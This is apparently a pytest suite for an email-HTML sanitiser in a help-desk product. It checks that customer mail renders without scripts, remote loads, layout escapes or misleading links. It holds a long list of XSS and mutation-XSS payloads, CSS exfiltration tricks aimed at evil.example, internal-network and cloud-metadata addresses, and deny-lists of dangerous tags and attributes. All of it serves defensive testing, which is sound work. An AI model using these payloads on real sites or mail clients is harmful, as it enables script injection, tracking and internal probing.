"""A customer's HTML as a page: nothing runs, loads or misleads, and it still looks like the mail."""

# ruff: noqa: E501 (tricks, as long as they are)

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from lxml import html as lxml_html
from tests.harness.cpu import at_most, least_seconds

from tocsin.kernel.text import MailPage, Pictures, html_to_text, present_html, sanitise_html

OURS = "/tickets/T-1/attachments/5/?inline=1"
_RUNS = {
    *(
        "script",
        "iframe",
        "object",
        "embed",
        "base",
        "meta",
        "link",
        "form",
        "input",
        "button",
        "svg",
        "math",
    ),
    *(
        "style",
        "video",
        "audio",
        "source",
        "track",
        "frame",
        "frameset",
        "applet",
        "portal",
        "template",
        "body",
    ),
}
_LOADS = re.compile(
    r"url\s*\(|image-set|@import|expression|javascript:|vbscript:|-moz-binding|behavior|src\(", re.I
)
_ESCAPES = re.compile(r"position|z-index|transform|inset|margin[^:]*:\s*-|\d(?:vh|vw|dvh)", re.I)


class Browser(HTMLParser):
    """Looks at HTML for what must not be in it."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in _RUNS, tag
        for name, value in attrs:
            self.attribute(tag, name, value or "")

    def attribute(self, tag: str, name: str, value: str) -> None:
        assert not name.startswith("on"), name
        assert name not in {
            "srcset",
            "background",
            "poster",
            "action",
            "formaction",
            "ping",
            "srcdoc",
            "id",
        }, name
        if name == "href":
            assert tag == "a"
            assert re.match(r"(?:https?|mailto|tel):", value), value
        if name == "src":
            assert value == OURS or re.match(r"data:image/(?:png|jpe?g|gif|webp);base64,", value), value
        if name == "style":
            assert not _LOADS.search(value), value
            assert not _ESCAPES.search(value), value


def look_at(html: str) -> None:
    """AssertionError for what must not be there."""
    browser = Browser()
    browser.feed(html)
    browser.close()


def shown(html: str, *, pictures: bool = False) -> MailPage:
    """A mail from outside as it is shown."""
    found = Pictures(lambda name: OURS if name == "logo@x" else None, pictures, "desk.example")
    return present_html(sanitise_html(html).html, found)


TRICKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1);">',
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    '<body onload=alert(1) background="https://evil.example/b.png">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><img src=1 onerror=alert(1)></xmp>",
    '<textarea><img title="</textarea><img src=1 onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=1 onerror=alert(1)>"></title>',
    "<!--><img src=1 onerror=alert(1)>-->",
    "<!--[if gte mso 9]><img src=https://evil.example/c.png onerror=alert(1)><![endif]-->",
    "<![CDATA[<img src=1 onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    '<a href="/account/staff/1/delete/">x</a>',
    '<a href="//evil.example">x</a>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/p">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input type=password autofocus onfocus=alert(1)><button>Sign in</button>',
    '<isindex action="https://evil.example" type=image>',
    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v"></video>',
    '<audio src="https://evil.example/a" autoplay onplay=alert(1)></audio>',
    '<picture><source srcset="https://evil.example/s.png"><img srcset="https://evil.example/s2.png 2x"></picture>',
    '<input type=image src="https://evil.example/i.png">',
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/d.png">x</table>',
    '<div style="background:url(https://evil.example/a)">x</div>',
    "<div style=\"background-image:URL('https://evil.example/a')\">x</div>",
    '<div style="background:u\\72l(https://evil.example/a)">x</div>',
    '<div style="background:ur/**/l(https://evil.example/a)">x</div>',
    "<div style=\"background:image-set('https://evil.example/a' 1x)\">x</div>",
    '<div style="background:-webkit-cross-fade(url(https://evil.example/a),red,50%)">x</div>',
    "<div style=\"background:src('https://evil.example/a')\">x</div>",
    '<div style="list-style:url(https://evil.example/a);cursor:url(https://evil.example/c),auto">x</div>',
    '<div style="content:url(https://evil.example/a);filter:url(https://evil.example/f)">x</div>',
    '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(x)">x</div>',
    '<div style="color:var(--x);--x:url(https://evil.example/a)">x</div>',
    '<div style="font-family:x;src:url(https://evil.example/f.woff)">x</div>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>p{background:url(https://evil.example/a)} @font-face{src:url(https://evil.example/f)}</style><p>x</p>",
    "<style>p{color:red}</style><style>*{position:fixed;inset:0}</style><p>x</p>",
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</div>',
    '<div style="margin-left:-9999px;margin:0 -500px">x</div>',
    '<div style="transform:scale(50);height:100vh">x</div>',
    '<p id="page" class="dialog" name="forms">x</p>',
    '<p data-key="r" data-live-url="/x" hx-get="/x">x</p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="/tickets/T-2/attachments/9/?inline=1">',
    '<img class="t-waiting" src="https://evil.example/a" referrerpolicy="unsafe-url" loading="eager">',
    '<img data-blocked-src="https://evil.example/a" src="https://evil.example/b">',
    "<p \x00onclick=alert(1)>x</p>",
    '<p/onclick="alert(1)"/>x',
    "\ufeff+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<a href="https://x.example/" title=\'"><img src=1 onerror=alert(1)>\'>x</a>',
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<dialog open>x</dialog><div popover id=x>y</div><button popovertarget=x>z</button>",
    '<blockquote cite="javascript:alert(1)" type="cite">x</blockquote>',
]


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_runs_loads_or_escapes(trick: str) -> None:
    page = shown(f"<p>before</p>{trick}<p>after</p>")
    assert "before" in page.new
    for html in (page.new, page.history):
        look_at(html)
        assert not re.search(r"""(?<!href=")(?<!title=")https?://evil""", html)


@pytest.mark.parametrize("trick", TRICKS)
def test_asked_for_pictures_are_all_that_loads(trick: str) -> None:
    page = shown(f"<p>before</p>{trick}<p>after</p>", pictures=True).new
    look_at(re.sub(r' src="https://evil\.example/[^"]*"', "", page))
    assert "srcset" not in page


@pytest.mark.parametrize("trick", TRICKS)
def test_text_does_not_turn_into_markup_when_it_is_read_anew(trick: str) -> None:
    """Other parsers than the sanitiser's come to the same; what a browser makes of it is in tests/desk."""
    again = sanitise_html(sanitise_html(f"<div>{trick}</div>").html).html
    look_at(again)
    tree = lxml_html.fromstring(f"<div>{again}</div>")
    look_at(lxml_html.tostring(tree, encoding="unicode"))


# --- Pictures -------------------------------------------------------------------------------------

PICTURES = (
    '<img src="cid:logo@x" alt="Logo"><img src="cid:gone@x" alt="Gone"><img src="https://shop.test/a.png">'
    '<img src="http://shop.test/b.png" width=40><img src="//cdn.shop.test/c.png">'
    '<img src="https://shop.test/t.gif" width="1" height="1"><img src="https://shop.test/u.gif" '
    'style="width:1px;height:1px"><img src="https://shop.test/v.gif" style="display:none">'
)


def test_pictures_of_the_mail_stand_in_their_places_and_others_wait() -> None:
    page = shown(PICTURES)
    assert page.waiting == 3
    assert page.trackers == 3
    assert f'src="{OURS}"' in page.new
    assert page.new.count("src=") == 1
    assert 'alt="Gone"' in page.new
    assert "shop.test" not in page.new


def test_pictures_asked_for_are_loaded_without_telling_from_where() -> None:
    page = shown(PICTURES, pictures=True)
    assert page.waiting == 0
    assert page.new.count('referrerpolicy="no-referrer"') == 3
    assert 'src="https://cdn.shop.test/c.png"' in page.new
    assert not re.search(r"/[tuv]\.gif", page.new)


@pytest.mark.parametrize(
    "address",
    [
        "http://192.168.1.1/reboot", "http://localhost/x", "http://router/x", "http://10.0.0.7:8080/x",
        "http://[::1]/x", "http://printer.local/x", "http://2130706433/x", "http://0x7f.1/x",
        "https://desk.example/tickets/T-1/", "http://169.254.169.254/latest", "http://a.internal./x",
    ],
)  # fmt: skip
def test_pictures_never_reach_into_our_own_network(address: str) -> None:
    assert "src=" not in shown(f'<p>x</p><img src="{address}">', pictures=True).new


@pytest.mark.parametrize(
    ("size", "shape"),
    [
        ('width="600" height="300"', "aspect-ratio:600 / 300"),
        ('style="width:600px;height:20px"', "aspect-ratio:600 / 20"),
        ('width="100%" height="300"', ""),
        ('width="600"', ""),
    ],
)
def test_narrowed_pictures_keep_their_shape(size: str, shape: str) -> None:
    found = re.search(r"aspect-ratio:\s*[\d /]+\d", shown(f'<img src="cid:logo@x" {size}>').new)
    assert (found[0] if found else "") == shape


# --- Links ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "leads"),
    [
        ('<a href="https://evil.example/x">https://bank.example/login</a>', "evil.example"),
        ('<a href="https://evil.example/x">www.bank.example</a>', "evil.example"),
        ('<a href="https://bank.example@evil.example/">our page</a>', "evil.example"),
        ('<a href="https://xn--pple-43d.example/">Apple</a>', "xn--pple-43d.example"),
        ('<a href="https://login.bank.example/x">bank.example</a>', ""),
        ('<a href="https://www.bank.example/">https://bank.example</a>', ""),
        ('<a href="https://track.example/x">Read more</a>', ""),
        ('<a href="mailto:a@bank.example">a@bank.example</a>', ""),
        ('<a href="https://shop.example/">Mr. Smith wrote</a>', ""),
        ('<a href="http://[bad/">x</a>', ""),
    ],
)
def test_links_that_mislead_say_where_they_lead(link: str, leads: str) -> None:
    found = re.findall(r'<span class="t-leads">([^<]*)</span>', shown(f"<p>{link} and on</p>").new)
    assert found == ([leads] if leads else [])


def test_a_link_shows_its_address_and_leaves_quietly() -> None:
    page = shown('<a href="https://shop.example/a?b=1&amp;c=2">Shop</a>').new
    assert 'title="https://shop.example/a?b=1&amp;c=2"' in page
    assert 'target="_blank"' in page
    assert 'rel="noopener noreferrer nofollow"' in page


# --- The look -------------------------------------------------------------------------------------


def test_style_sheets_hold_in_the_mail_alone() -> None:
    page = shown(
        "<html><head><style>p.note { color: #123456; margin: 0 } @media print { p { display: none } }</style></head>"
        '<body bgcolor="#eeeeff"><p class="note">Hello</p></body></html>'
    )
    assert re.search(r'<p style="[^"]*color:\s*#123456[^"]*">Hello', page.new)
    assert 'bgcolor="#eeeeff"' in page.new
    assert "print" not in page.new
    assert page.has_own_colours


@pytest.mark.parametrize(
    ("html", "coloured"),
    [
        ("<p>Hello</p>", False),
        ('<p style="color:#000000">Hello</p>', False),
        ('<div style="background-color: white; color: windowtext">Hello</div>', False),
        ('<div style="color: rgb(34,34,34)">Hello</div>', True),
        ('<font color="#ff0000">Hello</font>', True),
        ('<table bgcolor="navy"><tr><td>Hello</table>', True),
        ('<p style="background:#fee">Hello</p>', True),
        ('<p style="color:white !important">Hello</p>', True),
    ],
)
def test_only_mails_with_colours_need_their_ground(html: str, coloured: bool) -> None:
    page = shown(html)
    assert page.has_own_colours is coloured
    assert coloured or "color" not in page.new


def test_a_forward_is_never_folded() -> None:
    html = sanitise_html('<p>See</p><hr><div id="divRplyFwdMsg"><b>From:</b> A</div><p>News</p>').html
    assert present_html(html, Pictures(lambda _name: None)).history
    whole = present_html(html, Pictures(lambda _name: None), forwarded=True)
    assert not whole.history
    assert "News" in whole.new


def test_what_cannot_be_built_is_shown_as_text() -> None:
    page = shown("<div>" * 5_000 + "word" + "<b>" * 5_000)
    look_at(page.new)
    assert "word" in page.new


def test_a_long_mail_takes_little_time() -> None:
    mail = "<table><tr><td style='color:#333'><a href='https://a.example/'>b.example</a><p>Text</p>" * 300
    stored = sanitise_html(mail).html
    best = least_seconds(lambda: present_html(stored, Pictures(lambda _name: None)), 3)
    assert best < 0.5  # measured at 0.05 s


@pytest.mark.parametrize(
    "evil",
    [
        f"<p style='color:{' ' * 900_000}x'>",
        "<style </style " * 60_000,
        "<body" * 180_000,
        "<title </title " * 60_000,
        f"<blockquote type=cite>{'word ' * 400}" * 390,
    ],
)
def test_a_mail_that_is_written_to_be_slow_is_not(evil: str) -> None:
    with at_most(5):  # measured at 0.3 s; each took minutes once
        sanitise_html(evil)
        html_to_text(evil)


# --- Text -----------------------------------------------------------------------------------------


def test_quotations_keep_their_marks_as_text() -> None:
    text = html_to_text(
        "<p>See below</p><blockquote type='cite'><p>Which?</p><blockquote type='cite'>Older</blockquote>"
        "</blockquote><p>The second.</p><blockquote>Indented</blockquote>"
    )
    lines = [line for line in text.split("\n") if line.strip(" >")]
    assert lines == ["See below", "> Which?", "> > Older", "The second.", "Indented"]
